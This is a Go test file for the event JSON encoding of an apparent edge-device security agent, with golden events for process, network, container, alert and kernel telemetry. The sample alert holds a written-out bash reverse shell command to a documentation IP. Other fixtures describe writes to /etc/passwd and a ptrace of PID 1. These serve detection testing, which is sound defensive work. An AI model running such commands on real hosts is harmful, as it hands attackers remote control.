package event_test

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/edgesec/edgesec/event"
	"github.com/edgesec/edgesec/schemas"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

var when = time.Date(2026, 3, 14, 15, 9, 26, 535_000_000, time.UTC)

const goldenAgentID = "b3f1c2d4-5e6f-4a7b-8c9d-0e1f2a3b4c5d"

func intp(i int) *int { return &i }

// goldenEvents returns one event of every catalogued name, with fixed ids.
func goldenEvents() []event.Event {
	cid := "4f66ad9a0b2b3a5c2f0d8a1e5e3b1f7f9c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f"
	evs := []event.Event{
		event.Must(event.ProcessCreate, when, &event.ProcessCreatePayload{
			Executable: "/usr/bin/curl", ProcessID: 4242, ParentProcessID: 1, UserID: "0", UserName: "root",
			CommandLine:  "curl -s \"http://10.0.0.5/x?a=1&b=<2>\"\t\\",
			ExtraDetails: event.ExtraDetails{"ModuleName": "tempSensor", "ContainerId": cid},
		}),
		event.Must(event.ProcessTerminate, when, &event.ProcessTerminatePayload{Executable: "/usr/bin/curl", ProcessID: 4242, ExitStatus: -9}),
		event.Must(event.ConnectionCreate, when,
			&event.ConnectionCreatePayload{RemoteAddress: "20.42.65.92", RemotePort: "443", LocalAddress: "192.168.1.20", LocalPort: "51234",
				Direction: event.DirectionOut, Protocol: "TCP", ProcessID: 311, UserID: "0", Executable: "/usr/bin/dotnet", CommandLine: "dotnet Hub.dll"},
			&event.ConnectionCreatePayload{RemoteAddress: "::ffff:10.1.2.3", RemotePort: "53", Direction: event.DirectionIn, Protocol: "UDP", Executable: "/usr/sbin/dnsmasq"}),
		event.Must(event.Login, when, &event.LoginPayload{ProcessID: 812, UserName: "admin", Operation: "sshd", Executable: "/usr/sbin/sshd",
			RemoteAddress: "203.0.113.7", RemotePort: "50123", LocalPort: "22", Result: event.LoginFail}),
		event.Must(event.ListeningPorts, when,
			&event.ListeningPortsPayload{Protocol: "TCP", LocalAddress: "0.0.0.0", LocalPort: "22", ExtraDetails: event.ExtraDetails{"Family": "IPv4"}},
			&event.ListeningPortsPayload{Protocol: "UDP", LocalAddress: "::", LocalPort: "5353", RemoteAddress: "::", RemotePort: "*"}),
		event.Must(event.LocalUsers, when, &event.LocalUsersPayload{UserName: "pi", UserID: "1000", GroupIDs: "1000;27", GroupNames: "pi;sudo"}),
		event.Must(event.FirewallConfiguration, when,
			&event.FirewallRulePayload{Priority: 0, Direction: event.DirectionIn, ChainName: "INPUT", Enabled: true, Action: event.ActionAllow,
				SourceAddress: "10.0.0.0/8", SourcePort: "1024-65535", DestinationAddress: "10.0.0.1", DestinationPort: "22", Protocol: "TCP", Application: "sshd"},
			&event.FirewallRulePayload{Priority: 1, ChainName: "INPUT", Enabled: false, Action: event.ActionDeny}),
		event.Must(event.SystemInformation, when, &event.SystemInformationPayload{OSName: "Debian GNU/Linux", OSVersion: "12", OSVendor: "Debian",
			OSArchitecture: "x86_64", HostName: "edge-01", BIOSVersion: "1.16.2", BootDevice: "/dev/sda1",
			TotalPhysicalMemoryInKB: 4030000, FreePhysicalMemoryInKB: 2100000, TotalVirtualMemoryInKB: 5078000, FreeVirtualMemoryInKB: 3000000}),
		event.Must(event.OSBaseline, when, &event.OSBaselinePayload{CceID: "CCE-14011-3", Description: "SSH root login disabled",
			Result: event.BaselineFail, Severity: event.SeverityCritical}),
		event.Must(event.ConnectedHardware, when, &event.ConnectedHardwarePayload{HardwareCategory: "USB", HardwareSubCategory: "Serial", HardwareName: "FT232R"}),
		event.Must(event.DiagnosticEvent, when, &event.DiagnosticPayload{CorrelationID: "9c647395-b913-4997-a732-a7fe7303b649",
			Severity: event.DiagWarning, Message: "cannot read /proc/1/exe", ProcessID: 1234, ThreadID: 1235}),
		event.Must(event.ConfigurationError, when, &event.ConfigurationErrorPayload{ConfigurationName: "maxMessageSizeInBytes",
			ErrorType: event.NotOptimal, UsedConfiguration: "204800", Message: "not a multiple of 4096"}),
		event.Must(event.DroppedEventsStatistics, when, &event.DroppedEventsPayload{Queue: "High", CollectedEvents: 10, DroppedEvents: 1},
			&event.DroppedEventsPayload{Queue: "Low", CollectedEvents: 0, DroppedEvents: 0}),
		event.Must(event.MessageStatistics, when, &event.MessageStatisticsPayload{MessagesSent: 42, MessagesUnder4KB: 3, TotalFailed: 1}),
		event.Must(event.ContainerInventory, when, &event.ContainerInventoryPayload{ContainerID: cid, Name: "tempSensor", ModuleName: "tempSensor",
			Runtime: "moby", Image: "mcr.microsoft.com/azureiotedge-simulated-temperature-sensor:1.5", ImageDigest: "sha256:0e5e",
			State: "running", StartedAt: "2026-03-14T15:00:01.123456789Z", Privileged: true, NetworkMode: "host", PidMode: "host",
			IpcMode: "private", UtsMode: "host", User: "root", CapAdd: []string{"SYS_ADMIN"},
			Mounts:  []event.Mount{{Type: "bind", Source: "/var/run/docker.sock", Destination: "/var/run/docker.sock", Risk: "DockerSocket"}},
			Devices: []string{"/dev/ttyUSB0:/dev/ttyUSB0:rwm"}, SeccompProfile: "unconfined", AppArmorProfile: "unconfined",
			RestartPolicy: "always", MemoryLimit: 268435456, NanoCPUs: 500000000,
			Labels: map[string]string{"net.azure-devices.edge.owner": "Microsoft.Azure.Devices.Edge.Agent", "net.azure-devices.edge.env": "{}"}},
			&event.ContainerInventoryPayload{ContainerID: "nginx-1", Name: "nginx", Runtime: "containerd", Namespace: "default",
				Image: "docker.io/library/nginx:1.25", State: "created", ReadOnlyRootfs: true, NoNewPrivileges: true}),
		event.Must(event.ContainerActivity, when,
			&event.ContainerActivityPayload{Action: "die", ContainerID: cid, ContainerName: "tempSensor", ModuleName: "tempSensor", Image: "sensor:1.5", Runtime: "moby", ExitCode: intp(0)},
			&event.ContainerActivityPayload{Action: "exec_start", ContainerID: cid, Runtime: "moby", Command: "sh -c id"}),
		event.Must(event.DeploymentRecommendation, when, &event.DeploymentRecommendationPayload{RuleID: "EDGE001", Severity: event.FindingCritical,
			Title: "Container runs privileged", Module: "tempSensor", Pointer: "/modulesContent/$edgeAgent/properties.desired/modules/tempSensor",
			Evidence: `"Privileged": true`, Remediation: "Remove Privileged.", Source: "deployment.json"}),
		event.Must(event.Heartbeat, when, &event.HeartbeatPayload{AgentVersion: "0.1.0", StartTimeUTC: "2026-03-14T14:09:26Z", UptimeSeconds: 3600,
			ConfigurationVersion: 12, Collectors: []event.CollectorHealth{{Name: "ProcessCreate", State: "running", Events: 1234},
				{Name: "FirewallConfiguration", State: "degraded", LastError: "permission denied", Events: 2}}}),
		event.Must(event.SecurityAlert, when, &event.SecurityAlertPayload{AlertType: "IoT_ReverseShell", DisplayName: "Reverse shells",
			Severity: event.AlertHigh, Description: "A shell redirected its input and output to a TCP connection",
			Remediation: "Kill the process.", TriggerEventIDs: []string{"0c1d2e3f-4a5b-4c6d-8e7f-8091a2b3c4d5"},
			TriggerEventNames: []string{event.ProcessCreate}, Executable: "/usr/bin/bash", CommandLine: "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
			UserID: "0", UserName: "root", ProcessID: 4242, ParentProcessID: 4200, ParentExecutable: "/usr/bin/sh", ContainerID: cid,
			ModuleName: "tempSensor", RemoteAddress: "198.51.100.7", RemotePort: "4444", Count: 1, ExtraDetails: event.ExtraDetails{"Outcome": "executed"}}),
		event.Must(event.SecurityRecommendation, when, &event.SecurityRecommendationPayload{RecommendationType: "IoT_OpenPorts",
			Name: "Open ports on device", Severity: event.AlertMedium, State: event.RecommendationActive, Entity: "TCP 0.0.0.0:8888",
			Evidence: "nc (pid 812) listens on 0.0.0.0:8888", Remediation: "Close the port.", FirstSeenUTC: "2026-03-14T15:09:26.535Z"}),
		event.Must(event.KernelActivity, when,
			&event.KernelActivityPayload{Action: event.ActivityOpenWrite, Path: "/etc/passwd", Operations: "write|truncate", ProcessID: 4242,
				ParentProcessID: 4200, Executable: "/usr/bin/tee", CommandLine: "tee /etc/passwd", UserID: "0", UserName: "root",
				ExtraDetails: event.ExtraDetails{"Source": "ebpf"}},
			&event.KernelActivityPayload{Action: event.ActivityPtrace, TargetProcessID: 1, ProcessID: 4243, ParentProcessID: 4200,
				Executable: "/usr/bin/gdb", UserID: "0"}),
	}
	for i := range evs {
		evs[i].ID = event.FormatID([16]byte{byte(i), 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15})
	}
	return evs
}

func TestAppendJSONGolden(t *testing.T) {
	v, err := schemas.NewValidator()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, ev := range goldenEvents() {
		seen[ev.Name] = true
		t.Run(ev.Name, func(t *testing.T) {
			env := event.Envelope{AgentVersion: "1.0.0", AgentID: goldenAgentID, Events: []event.Event{ev}}
			got := env.AppendJSON(nil)
			if !json.Valid(got) {
				t.Fatalf("invalid JSON: %s", got)
			}
			if err := v.ValidateMessage(got); err != nil {
				t.Errorf("schema: %v", err)
			}
			path := filepath.Join("testdata", ev.Name+".json")
			if *update {
				if err := os.WriteFile(path, append(append([]byte(nil), got...), '\n'), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run go test -update to create it)", err)
			}
			if !bytes.Equal(got, bytes.TrimSuffix(want, []byte("\n"))) {
				t.Errorf("encoding differs from %s\n got: %s\nwant: %s", path, got, want)
			}
			// MarshalJSON and Size agree with AppendJSON.
			if m, _ := json.Marshal(env); !bytes.Equal(m, got) {
				t.Errorf("json.Marshal(Envelope) differs from AppendJSON:\n%s", m)
			}
			if ev.Size() != len(ev.AppendJSON(nil)) {
				t.Errorf("Size %d, encoding %d bytes", ev.Size(), len(ev.AppendJSON(nil)))
			}
			// AppendJSON appends: it keeps what dst held.
			if pre := ev.AppendJSON([]byte("prefix")); !bytes.HasPrefix(pre, []byte("prefix{")) {
				t.Errorf("AppendJSON dropped dst: %.20s", pre)
			}
		})
	}
	for _, in := range event.Catalogue() {
		if !seen[in.Name] {
			t.Errorf("no golden event for %s", in.Name)
		}
	}
}

func TestMessageSize(t *testing.T) {
	evs := goldenEvents()
	overhead := event.MessageOverhead("1.0.0", goldenAgentID)
	for _, n := range []int{0, 1, 2, len(evs)} {
		sum := 0
		for _, ev := range evs[:n] {
			sum += ev.Size()
		}
		env := event.Envelope{AgentVersion: "1.0.0", AgentID: goldenAgentID, Events: evs[:n]}
		if got, want := len(env.AppendJSON(nil)), event.MessageSize(overhead, sum, n); got != want {
			t.Errorf("%d events: message is %d bytes, MessageSize says %d", n, got, want)
		}
	}
}

func TestEmptySnapshotEncoding(t *testing.T) {
	ev := event.Must(event.LocalUsers, when)
	ev.ID = goldenAgentID
	got := string(ev.AppendJSON(nil))
	want := `{"Id":"b3f1c2d4-5e6f-4a7b-8c9d-0e1f2a3b4c5d","TimestampLocal":"2026-03-14T17:09:26.535+02:00",` +
		`"TimestampUTC":"2026-03-14T15:09:26.535Z","Category":"Periodic","Name":"LocalUsers","EventType":"Security",` +
		`"IsEmpty":true,"PayloadSchemaVersion":"1.0","Payload":[]}`
	if got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}

func TestTimestamps(t *testing.T) {
	zones := []*time.Location{time.UTC, goldenZone, time.FixedZone("", -(9*60+30)*60), time.FixedZone("IST", (5*60+30)*60)}
	for _, loc := range zones {
		t.Run(loc.String(), func(t *testing.T) {
			saved := time.Local
			time.Local = loc
			defer func() { time.Local = saved }()
			at := time.Date(2026, 12, 31, 23, 59, 59, 999_999_999, time.UTC)
			ev := event.Must(event.SystemInformation, at)
			var m map[string]any
			if err := json.Unmarshal(ev.AppendJSON(nil), &m); err != nil {
				t.Fatal(err)
			}
			local, utc := m["TimestampLocal"].(string), m["TimestampUTC"].(string)
			if local != event.FormatLocal(at) || utc != event.FormatUTC(at) {
				t.Errorf("encoding %s/%s, Format* %s/%s", local, utc, event.FormatLocal(at), event.FormatUTC(at))
			}
			if !strings.HasSuffix(utc, "Z") || utc != "2026-12-31T23:59:59.999Z" {
				t.Errorf("TimestampUTC %q", utc)
			}
			lt, err := time.Parse(time.RFC3339Nano, local)
			if err != nil {
				t.Fatalf("TimestampLocal %q: %v", local, err)
			}
			ut, err := time.Parse(time.RFC3339Nano, utc)
			if err != nil {
				t.Fatalf("TimestampUTC %q: %v", utc, err)
			}
			want := at.Truncate(time.Millisecond)
			if !lt.Equal(want) || !ut.Equal(want) {
				t.Errorf("parsed %v / %v, want %v", lt, ut, want)
			}
			_, off := lt.Zone()
			if _, wantOff := at.In(loc).Zone(); off != wantOff {
				t.Errorf("TimestampLocal %q has offset %d, want %d", local, off, wantOff)
			}
		})
	}
}

func TestObjectItem(t *testing.T) {
	got := string(event.Object{"Register": "40001", "Value": 7}.AppendJSON(nil))
	if got != `{"Register":"40001","Value":7}` {
		t.Errorf("got %s", got)
	}
	bad := event.Object{"f": func() {}}.AppendJSON([]byte("x"))
	if !json.Valid(bad[1:]) || !strings.Contains(string(bad), "unencodable") {
		t.Errorf("unencodable object: %s", bad)
	}
}
